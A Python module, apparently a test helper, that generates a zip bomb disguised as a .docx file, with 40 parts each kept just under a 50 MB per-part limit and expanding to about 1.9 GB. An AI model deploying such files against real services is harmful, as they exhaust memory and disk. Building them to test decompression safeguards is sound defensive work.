"""A zip bomb shaped like a Word file: 40 parts of 49 MB each (under the per-part
limit of 50 MB, 1.9 GB in all) in a file of about 2 MB.

The 49 MB of zeros is deflated once and its compressed bytes written 40 times
into a hand-made zip, so making the bomb takes a fraction of a second.
"""

from __future__ import annotations

import struct
import zlib

PART_BYTES = 49 * 1024 * 1024
PARTS = 40
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1024 * 1024)
    out = []
    crc = 0
    for _ in range(size // len(chunk)):
        out.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    out.append(compressor.flush())
    return b"".join(out), crc


def _entries(parts: int, part_bytes: int):
    yield (
        "[Content_Types].xml",
        zlib.compress(CONTENT_TYPES, 9)[2:-4],
        zlib.crc32(CONTENT_TYPES),
        len(CONTENT_TYPES),
    )
    data, crc = _deflated_zeros(part_bytes)
    for index in range(parts):
        name = "word/document.xml" if index == 0 else f"word/media/fyld{index}.xml"
        yield name, data, crc, part_bytes


def zip_bomb(parts: int = PARTS, part_bytes: int = PART_BYTES) -> bytes:
    local = []
    central = []
    offset = 0
    for name, data, crc, size in _entries(parts, part_bytes):
        encoded = name.encode()
        header = struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0
        )
        local.append(header + encoded + data)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
        offset += len(header) + len(encoded) + len(data)
    directory = b"".join(central)
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(directory), offset, 0
    )
    return b"".join(local) + directory + end
